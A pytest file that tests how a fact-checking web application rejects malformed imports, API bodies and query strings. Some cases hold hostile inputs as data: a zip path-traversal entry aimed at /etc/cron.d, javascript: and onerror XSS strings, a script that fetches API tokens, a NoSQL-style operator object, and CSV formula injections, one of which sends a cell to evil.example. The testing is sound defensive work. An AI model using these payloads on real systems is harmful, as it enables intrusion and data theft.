"""The bad-input corpus (acceptance item 5): malformed import files and malformed API bodies.

One table. Every case must get a clear error — for files an import error naming the file, row and
field; for API bodies a 4xx whose body names the offending field — and must leave no partial
write: the counts of articles, outlets, claims, claim groups, verdicts, sources, evidence and
their history rows are the same after as before (a file import keeps only its ImportBatch row,
which is the error report).

Files go through the import service with its readers (`read_stream` → `articles_import`, what the
command, the admin upload and the worker use); bodies go through the REST API with knox tokens.
"""

import io
import json
from collections.abc import Callable
from dataclasses import dataclass, field

import pytest
from django.conf import settings
from django.core.cache import cache
from knox.models import AuthToken
from rest_framework.test import APIClient

from articles.formats import read_stream
from articles.models import Article, ImportBatch, Outlet
from articles.services import articles_import, import_batch_create
from factcheck.models import Claim, ClaimGroup, Evidence, Source, Verdict
from tests.factories import ArticleFactory, ClaimFactory, ClaimGroupFactory, RatingFactory
from tests.payloads import jsonl, make_zip

pytestmark = pytest.mark.django_db

# An article with text outside the Basic Multilingual Plane and curly quotes, for the span cases.
BODY = "The mayor 😀 said “It will cost €7 million” on Tuesday. Officials agreed. Fans replied 👍🏽 at once."


GOOD_ZIP = make_zip({"a.txt": b"Headline A\n" + b"Body of article A. " * 200, "b.txt": b"Headline B\nBody B."})


# --- import files ---------------------------------------------------------------------------------


@dataclass
class FileCase:
    id: str
    name: str
    data: bytes
    errors: list[tuple[str, int | None, str]]  # (file, row, field) of every expected error
    message: str  # a phrase the (first) message must contain
    limits: dict = field(default_factory=dict)  # settings.WORKBENCH overrides


FILE_CASES = [
    FileCase(
        "latin1-txt",
        "latin.txt",
        "Headline\nCaf\u00e9 society".encode("latin-1"),
        [("latin.txt", None, "encoding")],
        "not valid UTF-8",
    ),
    FileCase(
        "utf16-csv",
        "feed.csv",
        "headline,body\nH,Text body.\n".encode("utf-16"),
        [("feed.csv", 1, "encoding")],
        "not valid UTF-8",
    ),
    FileCase(
        "utf16-jsonl",
        "feed.jsonl",
        json.dumps({"headline": "H", "body": "B"}).encode("utf-16"),
        [("feed.jsonl", 1, "encoding")],
        "not valid UTF-8",
    ),
    FileCase(
        "utf16-without-bom-jsonl",
        "bare.jsonl",
        json.dumps({"headline": "H", "body": "B"}).encode("utf-16-le"),
        [("bare.jsonl", 1, "json")],
        "invalid JSON",
    ),
    FileCase(
        "binary-as-jsonl",
        "image.jsonl",
        b"\x89PNG\x1a\x00\x00\x00\rIHDR\xff\xfe",
        [("image.jsonl", 1, "encoding")],
        "not valid UTF-8",
    ),
    FileCase("empty-txt", "empty.txt", b"  \n\n", [("empty.txt", None, "file")], "empty"),
    FileCase("headline-only-txt", "title.txt", b"Just a headline\n\n", [("title.txt", None, "body")], "no text"),
    FileCase("unknown-format", "notes.docx", b"PK\x03\x04whatever", [("notes.docx", None, "file")], "unknown format"),
    FileCase(
        "truncated-zip", "cut.zip", GOOD_ZIP[: len(GOOD_ZIP) // 2], [("cut.zip", None, "file")], "not a valid ZIP"
    ),
    FileCase(
        "not-a-zip", "fake.zip", b"PK\x03\x04 this is not really a zip", [("fake.zip", None, "file")], "not a valid ZIP"
    ),
    FileCase(
        "nested-zip",
        "outer.zip",
        make_zip({"inner.zip": make_zip({"a.txt": b"A\nB"})}),
        [("outer.zip:inner.zip", None, "file")],
        "nested archives",
    ),
    FileCase(
        "zip-path-traversal",
        "evil.zip",
        make_zip({"../../etc/cron.d/x.txt": b"Evil\nText."}),
        [("evil.zip:../../etc/cron.d/x.txt", None, "path")],
        "unsafe path",
    ),
    FileCase(
        "zip-absolute-path",
        "abs.zip",
        make_zip({"/tmp/abs.txt": b"Abs\nText."}),
        [("abs.zip:/tmp/abs.txt", None, "path")],
        "unsafe path",
    ),
    FileCase(
        "zip-bomb",
        "bomb.zip",
        make_zip({"bomb.txt": b"Headline\n" + b"0" * 5_000_000}),
        [("bomb.zip:bomb.txt", None, "file")],
        "larger than the limit",
        {"IMPORT_MAX_FILE_BYTES": 1_000_000},
    ),
    FileCase(
        "zip-entry-unknown-format",
        "odd.zip",
        make_zip({"payload.exe": b"MZ\x90\x00"}),
        [("odd.zip:payload.exe", None, "file")],
        "unknown format",
    ),
    FileCase(
        "oversized-file",
        "big.txt",
        b"Headline\n" + b"word " * 100,
        [("big.txt", None, "file")],
        "larger than the limit",
        {"IMPORT_MAX_FILE_BYTES": 100},
    ),
    FileCase(
        "oversized-article",
        "long.jsonl",
        jsonl({"headline": "H", "body": "x" * 21}),
        [("long.jsonl", 1, "body")],
        "longer than 20",
        {"IMPORT_MAX_ARTICLE_CHARS": 20},
    ),
    FileCase(
        "csv-missing-body-column", "feed.csv", b"title,author\nA,B\n", [("feed.csv", 1, "body")], "missing column"
    ),
    # A quote never closed swallows the rest of the file into the headline: the row has no body.
    FileCase(
        "csv-unterminated-quote",
        "quote.csv",
        b'headline,body\n"Unclosed headline,Some text.\n',
        [("quote.csv", 2, "body")],
        "missing article text",
    ),
    FileCase(
        "csv-too-many-values",
        "wide.csv",
        b"headline,body\nToo,many,values\n",
        [("wide.csv", 2, "file")],
        "more values than columns",
    ),
    # NUL bytes: PostgreSQL cannot store them in text; SQLite would keep them inside an id.
    FileCase(
        "jsonl-nul-in-external-id",
        "nul.jsonl",
        jsonl({"headline": "H", "body": "B", "external_id": "ab\u0000c"}),
        [("nul.jsonl", 1, "external_id")],
        "NUL",
    ),
    FileCase(
        "jsonl-nul-in-url",
        "nulurl.jsonl",
        jsonl({"headline": "H", "body": "B", "url": "https://a.example/\u0000x"}),
        [("nulurl.jsonl", 1, "url")],
        "NUL",
    ),
    FileCase(
        "jsonl-truncated-line", "cut.jsonl", b'{"headline": "Cut", "bo', [("cut.jsonl", 1, "json")], "invalid JSON"
    ),
    FileCase("jsonl-array-not-object", "arr.jsonl", b"[1, 2]", [("arr.jsonl", 1, "json")], "expected a JSON object"),
    FileCase(
        "jsonl-wrong-type",
        "types.jsonl",
        jsonl({"headline": 42, "body": "Text."}),
        [("types.jsonl", 1, "headline")],
        "must be a string",
    ),
    FileCase(
        "jsonl-huge-number",
        "num.jsonl",
        b'{"headline": "H", "body": "B", "published_at": 1e999}',
        [("num.jsonl", 1, "published_at")],
        "must be a string",
    ),
    FileCase(
        "jsonl-unknown-field",
        "extra.jsonl",
        jsonl({"headline": "H", "body": "B", "is_admin": True}),
        [("extra.jsonl", 1, "is_admin")],
        "unknown field",
    ),
    FileCase(
        "jsonl-bad-date",
        "date.jsonl",
        jsonl({"headline": "H", "body": "B", "published_at": "yesterday"}),
        [("date.jsonl", 1, "published_at")],
        "not a date",
    ),
    FileCase(
        "jsonl-year-out-of-range",
        "year.jsonl",
        jsonl({"headline": "H", "body": "B", "published_at": "99999-01-01"}),
        [("year.jsonl", 1, "published_at")],
        "not a date",
    ),
    FileCase(
        "jsonl-javascript-url",
        "url.jsonl",
        jsonl({"headline": "H", "body": "B", "url": "javascript:alert(1)"}),
        [("url.jsonl", 1, "url")],
        "not a valid http(s) URL",
    ),
    FileCase(
        "jsonl-headline-too-long",
        "long.jsonl",
        jsonl({"headline": "H" * 1001, "body": "B"}),
        [("long.jsonl", 1, "headline")],
        "longer than 1000",
    ),
    # issue #15 items 1, 2, 4
    FileCase(
        "jsonl-url-port-out-of-range",
        "port.jsonl",
        jsonl({"headline": "H", "body": "B", "url": "http://x:99999/"}),
        [("port.jsonl", 1, "url")],
        "port",
    ),
    FileCase(
        "jsonl-lone-surrogate-value",
        "sur.jsonl",
        b'{"headline": "H\\ud800", "body": "B"}',
        [("sur.jsonl", 1, "headline")],
        "surrogate",
    ),
    FileCase(
        "jsonl-lone-surrogate-field-name",
        "surkey.jsonl",
        b'{"headline": "H", "body": "B", "\\udfff": "x"}',
        [("surkey.jsonl", 1, "\\udfff")],
        "unknown field",
    ),
    FileCase(
        "jsonl-deeply-nested",
        "deep.jsonl",
        b'{"headline": "H", "body": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        [("deep.jsonl", 1, "json")],
        "nested too deeply",
    ),
    FileCase(
        "jsonl-published-at-year-0",
        "y0.jsonl",
        jsonl({"headline": "H", "body": "B", "published_at": "0001-01-01T00:00:00+01:00"}),
        [("y0.jsonl", 1, "published_at")],
        "out of range",
    ),
    FileCase(
        "jsonl-published-at-year-10000",
        "y10k.jsonl",
        jsonl({"headline": "H", "body": "B", "published_at": "9999-12-31T23:59:59-10:00"}),
        [("y10k.jsonl", 1, "published_at")],
        "out of range",
    ),
    FileCase(
        "csv-invalid-utf8-in-a-row",
        "bytes.csv",
        b"headline,body\nCaf\xe9,Text.\n",
        [("bytes.csv", 2, "headline")],
        "not valid UTF-8",
    ),
    FileCase(
        "jsonl-script-only-html",
        "html.jsonl",
        jsonl({"headline": "H", "body_html": "<script>alert(1)</script>"}),
        [("html.jsonl", 1, "body")],
        "missing article text",
    ),
]


def _db_state() -> dict:
    models = [Article, Outlet, Claim, ClaimGroup, Verdict, Source, Evidence, AuthToken]
    state = {m.__name__: m.objects.count() for m in models}
    for m in (Article, Claim, ClaimGroup, Verdict, Source, Evidence):
        state[f"{m.__name__}.history"] = m.history.count()
    return state


@pytest.mark.parametrize("case", FILE_CASES, ids=lambda c: c.id)
def test_bad_import_file(case, settings):
    if case.limits:
        settings.WORKBENCH = {**settings.WORKBENCH, **case.limits}
    ArticleFactory()  # something there already, which must stay as it is
    before = _db_state()
    batch = import_batch_create(source_name=case.name)
    batch = articles_import(batch=batch, records=read_stream(case.name, io.BytesIO(case.data)))
    got = [(e["file"], e["row"], e["field"]) for e in batch.errors]
    assert got == case.errors, batch.errors
    assert case.message in batch.errors[0]["message"], batch.errors[0]
    assert batch.created_count == 0 and batch.failed_count == len(case.errors)
    assert batch.status == ImportBatch.Status.DONE  # reported per row, not a crash
    assert _db_state() == before, "a rejected import wrote something"


def test_spreadsheet_formulas_in_csv_import_as_plain_text_and_export_neutralised(tmp_path):
    """`=HYPERLINK(...)` and friends in CSV fields are stored as the text they are (never
    evaluated, never dropped) and come out of the CSV export with a leading apostrophe."""
    import csv

    from django.core.management import call_command

    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
    data = (
        "headline,body,byline,external_id\n"
        f'"{formula.replace(chr(34), chr(34) * 2)}","@SUM(1+1) the council voted.",+cmd|calc,-ext-1\n'
    ).encode()
    batch = articles_import(
        batch=import_batch_create(source_name="formula.csv"), records=read_stream("formula.csv", io.BytesIO(data))
    )
    assert batch.created_count == 1, batch.errors
    article = Article.objects.get()
    assert (article.headline, article.body, article.byline, article.external_id) == (
        formula,
        "@SUM(1+1) the council voted.",
        "+cmd|calc",
        "-ext-1",
    )
    ClaimFactory(article=article, start=0, end=len(article.body), speaker="=1+2")
    out = tmp_path / "claims.csv"
    call_command("export_claims", "--format", "csv", "--output", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig", newline="")))
    assert len(rows) == 1
    assert rows[0]["article_external_id"] == "'-ext-1"
    assert rows[0]["exact"] == "'@SUM(1+1) the council voted."
    assert rows[0]["speaker"] == "'=1+2"


# --- API bodies -----------------------------------------------------------------------------------


class World:
    def __init__(self):
        self.article = ArticleFactory(body=BODY, external_id="corpus-1", url="https://news.example/corpus-1")
        self.claim = ClaimFactory(article=self.article, start=0, end=BODY.index(" 😀"))
        self.group = ClaimGroupFactory()
        self.rating = RatingFactory(label="False")


@dataclass
class ApiCase:
    id: str
    method: str
    path: Callable[[World], str]
    body: Callable[[World], object]
    status: int
    field: str  # the field the error names ("" for a whole-body error)
    message: str  # a phrase the error must contain
    persona: str = "editor"
    content_type: str = "application/json"
    raw: bool = False  # body is already bytes


def _post_article(**fields):
    return {"headline": "A new article", "body": "A text about the harbour budget.", **fields}


HUGE_BODY_BYTES = settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1024


def _cp(text: str) -> int:
    return BODY.index(text)


API_CASES = [
    # articles: wrong types, huge numbers, unknown fields, very large and malformed bodies
    ApiCase(
        "article-headline-list",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: _post_article(headline=["a", "b"]),
        400,
        "headline",
        "Not a valid string",
    ),
    ApiCase(
        "article-body-object",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: _post_article(body={"$gt": ""}),
        400,
        "body",
        "Not a valid string",
    ),
    ApiCase(
        "article-missing-headline",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: {"body": "Text only."},
        400,
        "headline",
        "required",
    ),
    ApiCase(
        "article-huge-number-date",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: _post_article(published_at=10**400),
        400,
        "published_at",
        "not a date",
    ),
    ApiCase(
        "article-date-out-of-range",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: _post_article(published_at="9999-12-31T23:59:59-23:00"),
        400,
        "published_at",
        "out of range",
    ),
    ApiCase(
        "article-javascript-url",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: _post_article(url="javascript:alert(document.cookie)"),
        400,
        "url",
        "not a valid http(s) URL",
    ),
    ApiCase(
        "article-unknown-field",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: _post_article(is_published=True),
        400,
        "is_published",
        "unknown field",
    ),
    ApiCase(
        "article-script-only-html",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: {"headline": "H", "body_html": "<script>fetch('/api/v1/tokens/')</script><style>p{}</style>"},
        400,
        "body",
        "missing article text",
    ),
    ApiCase(
        "article-too-long-headline",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: _post_article(headline="H" * 1001),
        400,
        "headline",
        "no more than 1000",
    ),
    ApiCase(
        "article-body-over-upload-limit",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: json.dumps(_post_article(body="x" * HUGE_BODY_BYTES)).encode(),
        413,
        "",
        "too large",
        raw=True,
    ),
    ApiCase(
        "article-truncated-json",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: b'{"headline": "Cut", "bo',
        400,
        "",
        "JSON parse error",
        raw=True,
    ),
    ApiCase(
        "article-deeply-nested-json",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: b'{"headline": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        400,
        "",
        "JSON parse error",
        raw=True,
    ),
    ApiCase(
        "article-json-array-body",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: [_post_article()],
        400,
        "non_field_errors",
        "Invalid data",
    ),
    ApiCase(
        "article-wrong-content-type",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: b"headline=x&body=y",
        415,
        "",
        "Unsupported media type",
        content_type="text/csv",
        raw=True,
    ),
    ApiCase(
        "article-duplicate-text",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: {"headline": "Copy", "body": w.article.body.upper()},
        409,
        "body",
        "already article",
    ),
    # bulk imports
    ApiCase(
        "import-articles-not-a-list",
        "POST",
        lambda w: "/api/v1/imports/",
        lambda w: {"articles": "everything"},
        400,
        "articles",
        "Expected a list",
        persona="admin_user",
    ),
    ApiCase(
        "import-too-many-articles",
        "POST",
        lambda w: "/api/v1/imports/",
        lambda w: {"articles": [{}] * 10_001},
        400,
        "articles",
        "no more than 10000",
        persona="admin_user",
    ),
    ApiCase(
        "import-update-existing-not-bool",
        "POST",
        lambda w: "/api/v1/imports/",
        lambda w: {"articles": [_post_article()], "update_existing": "sometimes"},
        400,
        "update_existing",
        "valid boolean",
        persona="admin_user",
    ),
    # claim spans: offsets outside the text, mismatched quotes, negative, start >= end, UTF-16 units
    ApiCase(
        "claim-end-past-text",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": w.article.pk, "start": 0, "end": len(BODY) + 5, "exact": BODY + "xxxxx"},
        400,
        "end",
        "past the end of the text",
    ),
    ApiCase(
        "claim-straight-vs-curly-quote",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {
            "article": w.article.pk,
            "start": _cp("“"),
            "end": _cp("” on") + 1,
            "exact": '"It will cost €7 million"',
        },
        400,
        "exact",
        "U+201C",
    ),
    ApiCase(
        "claim-negative-start",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": w.article.pk, "start": -4, "end": 3, "exact": "The"},
        400,
        "start",
        "greater than or equal to 0",
    ),
    ApiCase(
        "claim-start-equals-end",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": w.article.pk, "start": 5, "end": 5, "exact": "x"},
        400,
        "end",
        "greater than start",
    ),
    ApiCase(
        "claim-start-after-end",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": w.article.pk, "start": 9, "end": 4, "exact": "x"},
        400,
        "end",
        "greater than start",
    ),
    ApiCase(
        "claim-code-points-sent-as-utf16",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {
            "article": w.article.pk,
            "start": _cp("said"),
            "end": _cp("said") + 4,
            "exact": "said",
            "units": "utf16",
        },
        400,
        "exact",
        "does not match",
    ),
    ApiCase(
        "claim-utf16-inside-emoji",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {
            "article": w.article.pk,
            "start": _cp("😀") + 1,
            "end": _cp("😀") + 4,
            "exact": "x",
            "units": "utf16",
        },
        400,
        "start",
        "inside a character",
    ),
    ApiCase(
        "claim-unknown-units",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": w.article.pk, "start": 0, "end": 3, "exact": "The", "units": "bytes"},
        400,
        "units",
        "not a valid choice",
    ),
    ApiCase(
        "claim-huge-offset",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": w.article.pk, "start": 0, "end": 10**30, "exact": "The"},
        400,
        "end",
        "less than or equal to",
    ),
    ApiCase(
        "claim-offset-as-text",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": w.article.pk, "start": "zero", "end": 3, "exact": "The"},
        400,
        "start",
        "valid integer",
    ),
    ApiCase(
        "claim-huge-article-id",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": 2**70, "start": 0, "end": 3, "exact": "The"},
        400,
        "article",
        "object does not exist",
    ),
    ApiCase(
        "claim-missing-article",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": 987654, "start": 0, "end": 3, "exact": "The"},
        400,
        "article",
        "does not exist",
    ),
    ApiCase(
        "claim-speaker-too-long",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": w.article.pk, "start": 0, "end": 3, "exact": "The", "speaker": "S" * 301},
        400,
        "speaker",
        "no more than 300",
    ),
    ApiCase(
        "claim-empty-exact",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": w.article.pk, "start": 0, "end": 3, "exact": ""},
        400,
        "exact",
        "blank",
    ),
    ApiCase(
        "claim-patch-unknown-type",
        "PATCH",
        lambda w: f"/api/v1/claims/{w.claim.pk}/",
        lambda w: {"claim_type": "rumour", "version": 1},
        400,
        "claim_type",
        "not a valid choice",
    ),
    ApiCase(
        "claim-patch-negative-version",
        "PATCH",
        lambda w: f"/api/v1/claims/{w.claim.pk}/",
        lambda w: {"speaker": "x", "version": -1},
        400,
        "version",
        "greater than or equal to 1",
    ),
    ApiCase(
        "claim-patch-huge-version",
        "PATCH",
        lambda w: f"/api/v1/claims/{w.claim.pk}/",
        lambda w: {"speaker": "x", "version": 2**64},
        400,
        "version",
        "less than or equal to",
    ),
    ApiCase(
        "claim-patch-bool-flag-as-text",
        "PATCH",
        lambda w: f"/api/v1/claims/{w.claim.pk}/",
        lambda w: {"is_anonymous_source": "perhaps", "version": 1},
        400,
        "is_anonymous_source",
        "valid boolean",
    ),
    ApiCase(
        "claim-bulk-unknown-decision",
        "POST",
        lambda w: "/api/v1/claims/bulk-decide/",
        lambda w: {"claims": [{"id": w.claim.pk, "version": 1}], "decision": "maybe"},
        400,
        "decision",
        "not a valid choice",
    ),
    ApiCase(
        "claim-bulk-huge-id",
        "POST",
        lambda w: "/api/v1/claims/bulk-decide/",
        lambda w: {"claims": [{"id": 2**63, "version": 1}], "decision": "accept"},
        400,
        "claims",
        "less than or equal to",
    ),
    ApiCase(
        "claim-bulk-without-versions",
        "POST",
        lambda w: "/api/v1/claims/bulk-decide/",
        lambda w: {"claims": [{"id": w.claim.pk}], "decision": "accept"},
        400,
        "claims",
        "required",
    ),
    ApiCase(
        "claim-bulk-undo-forged-token",
        "POST",
        lambda w: "/api/v1/claims/bulk-undo/",
        lambda w: {"undo": "eyJieSI6MX0:forged:signature"},
        400,
        "undo",
        "not an undo token",
    ),
    # issue #15 item 15: spans that split a grapheme cluster (👍 + skin tone 🏽) or hold only white space
    ApiCase(
        "claim-ends-inside-emoji-with-modifier",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": w.article.pk, "start": _cp("Fans"), "end": _cp("🏽"), "exact": "Fans replied 👍"},
        400,
        "end",
        "splits a character",
    ),
    ApiCase(
        "claim-starts-on-skin-tone-modifier",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": w.article.pk, "start": _cp("🏽"), "end": len(BODY), "exact": "🏽 at once."},
        400,
        "start",
        "splits a character",
    ),
    ApiCase(
        "claim-utf16-on-skin-tone-modifier",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {
            "article": w.article.pk,
            "start": len(BODY[: _cp("🏽")].encode("utf-16-le")) // 2,
            "end": len(BODY.encode("utf-16-le")) // 2,
            "exact": "🏽 at once.",
            "units": "utf16",
        },
        400,
        "start",
        "splits a character",
    ),
    ApiCase(
        "claim-whitespace-only",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": w.article.pk, "start": _cp(" on Tuesday"), "end": _cp(" on Tuesday") + 1, "exact": " "},
        400,
        "exact",
        "only white space",
    ),
    # verdicts, sources
    ApiCase(
        "verdict-unknown-rating",
        "POST",
        lambda w: "/api/v1/verdicts/",
        lambda w: {"group": w.group.pk, "rating": 987654, "rationale": "R."},
        400,
        "rating",
        "does not exist",
        persona="reviewer",
    ),
    ApiCase(
        "verdict-rating-wrong-type",
        "POST",
        lambda w: "/api/v1/verdicts/",
        lambda w: {"group": w.group.pk, "rating": {"id": w.rating.pk}, "rationale": "R."},
        400,
        "rating",
        "Incorrect type",
        persona="reviewer",
    ),
    ApiCase(
        "verdict-group-as-text",
        "POST",
        lambda w: "/api/v1/verdicts/",
        lambda w: {"group": "the first one", "rationale": "R."},
        400,
        "group",
        "Incorrect type",
        persona="reviewer",
    ),
    ApiCase(
        "source-javascript-url",
        "POST",
        lambda w: "/api/v1/sources/",
        lambda w: {"url": "javascript:alert(1)", "title": "<img src=x onerror=alert(1)>"},
        400,
        "url",
        "URL",
        persona="reviewer",
    ),
    # issue #15 item 10: ports, URI characters, NUL and lone surrogates in any JSON string
    ApiCase(
        "source-url-port-out-of-range",
        "POST",
        lambda w: "/api/v1/sources/",
        lambda w: {"url": "http://x:99999/"},
        400,
        "url",
        "port",
        persona="reviewer",
    ),
    ApiCase(
        "source-url-with-quotes",
        "POST",
        lambda w: "/api/v1/sources/",
        lambda w: {"url": 'https://x.example/a"b'},
        400,
        "url",
        "quotes",
        persona="reviewer",
    ),
    ApiCase(
        "evidence-source-url-port-out-of-range",
        "POST",
        lambda w: "/api/v1/evidence/",
        lambda w: {"group": w.group.pk, "source_url": "https://x.example:70000/doc"},
        400,
        "url",
        "port",
        persona="reviewer",
    ),
    ApiCase(
        "article-url-port-out-of-range",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: _post_article(url="http://x:99999/"),
        400,
        "url",
        "port",
    ),
    ApiCase(
        "claim-nul-in-speaker",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": w.article.pk, "start": 0, "end": 3, "exact": "The", "speaker": "Ma\u0000yor"},
        400,
        "speaker",
        "NUL",
    ),
    ApiCase(
        "article-nul-in-headline",
        "POST",
        lambda w: "/api/v1/articles/",
        lambda w: _post_article(headline="Head\u0000line"),
        400,
        "headline",
        "NUL",
    ),
    ApiCase(
        "claim-surrogate-in-choice-field",
        "PATCH",
        lambda w: f"/api/v1/claims/{w.claim.pk}/",
        lambda w: {"claim_type": "\ud800", "version": 1},
        400,
        "claim_type",
        "surrogate",
    ),
    ApiCase(
        "claim-bulk-surrogate-decision",
        "POST",
        lambda w: "/api/v1/claims/bulk-decide/",
        lambda w: {"claim_ids": [w.claim.pk], "decision": "acc\udfffept"},
        400,
        "decision",
        "surrogate",
    ),
    ApiCase(
        "claim-surrogate-in-field-name",
        "POST",
        lambda w: "/api/v1/claims/",
        lambda w: {"article": w.article.pk, "start": 0, "end": 3, "exact": "The", "\ud83d": 1},
        400,
        "\\ud83d",
        "surrogate",
    ),
    ApiCase(
        "verdict-surrogate-in-nested-list",
        "POST",
        lambda w: "/api/v1/verdicts/",
        lambda w: {"group": w.group.pk, "rationale": ["ok", "\udc00"]},
        400,
        "rationale[1]",
        "surrogate",
        persona="reviewer",
    ),
]


def _error_text(response) -> str:
    try:
        return json.dumps(response.json(), ensure_ascii=False)
    except ValueError:
        return response.content.decode(errors="replace")


def _names_field(response, name: str) -> bool:
    data = response.json()
    return isinstance(data, dict) and (name in data or data.get("field") == name)


@pytest.mark.parametrize("case", API_CASES, ids=lambda c: c.id)
def test_bad_api_body(case, request):
    cache.clear()
    world = World()
    user = request.getfixturevalue(case.persona)
    _, token = AuthToken.objects.create(user=user)
    client = APIClient()
    client.raise_request_exception = False  # a crash must show as the 500 it is, not stop the test
    client.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    before = _db_state()
    body = case.body(world)
    data = body if case.raw else json.dumps(body)
    response = getattr(client, case.method.lower())(case.path(world), data=data, content_type=case.content_type)
    text = _error_text(response)
    assert response.status_code == case.status, text[:1000]
    assert case.message.lower() in text.lower(), text[:1000]
    if case.field:
        assert _names_field(response, case.field), text[:1000]
    assert _db_state() == before, "a refused request wrote something"


# --- query strings (issue #15 item 10) ------------------------------------------------------------


@dataclass
class QueryCase:
    id: str
    path: Callable[[World], str]
    status: int
    message: str  # a phrase the response must contain
    field: str = ""  # for the API: the parameter the error names
    persona: str = "editor"


QUERY_CASES = [
    QueryCase("article-list-url-brackets", lambda w: "/api/v1/articles/?url=[]", 400, "url", "url"),
    QueryCase("article-list-url-port", lambda w: "/api/v1/articles/?url=http://x:99999/", 400, "port", "url"),
    QueryCase(
        "article-list-url-ok", lambda w: "/api/v1/articles/?url=HTTPS://www.news.example/corpus-1/", 200, "corpus-1"
    ),
    QueryCase("claim-list-nul-status", lambda w: "/api/v1/claims/?status=%00", 400, "NUL", "status"),
    QueryCase("article-list-nul-search", lambda w: "/api/v1/articles/?q=%00", 400, "NUL", "q"),
    QueryCase("article-list-nul-in-name", lambda w: "/api/v1/articles/?sta%00tus=x", 400, "NUL", "sta\\x00tus"),
    QueryCase(
        "claim-list-id-as-huge-float",
        lambda w: "/api/v1/claims/?outlet=3.976193494194167e%2B16",
        400,
        "whole number",
        "outlet",
    ),
    QueryCase("claim-list-id-negative-fraction", lambda w: "/api/v1/claims/?group=-3.25", 400, "whole number", "group"),
    QueryCase("web-search-nul", lambda w: "/search/?q=a%00b", 400, "NUL"),
    QueryCase("web-group-superscript-mention", lambda w: f"/groups/{w.group.pk}/?mention=%C2%B2", 200, "</html>"),
    QueryCase("web-group-arabic-digit-mention", lambda w: f"/groups/{w.group.pk}/?mention=%D9%A1", 200, "</html>"),
]


@pytest.mark.parametrize("case", QUERY_CASES, ids=lambda c: c.id)
def test_bad_query_string(case, request, client):
    cache.clear()
    world = World()
    client.raise_request_exception = False
    client.force_login(request.getfixturevalue(case.persona))
    response = client.get(case.path(world))
    text = response.content.decode()
    assert response.status_code == case.status, text[:1000]
    assert case.message.lower() in text.lower(), text[:1000]
    if case.field:
        assert response.json().get("field") == case.field or case.field in response.json(), text[:500]


def test_the_corpus_is_at_least_thirty_cases_and_covers_every_kind():
    assert len(FILE_CASES) + len(API_CASES) + len(QUERY_CASES) >= 30
    ids = {c.id for c in FILE_CASES} | {c.id for c in API_CASES} | {c.id for c in QUERY_CASES}
    for needed in (
        "latin1-txt",
        "truncated-zip",
        "nested-zip",
        "zip-bomb",
        "article-body-over-upload-limit",
        "article-script-only-html",
        "claim-end-past-text",
        "claim-straight-vs-curly-quote",
        "article-headline-list",
        "claim-huge-offset",
        "article-unknown-field",
        "verdict-unknown-rating",
    ):
        assert needed in ids
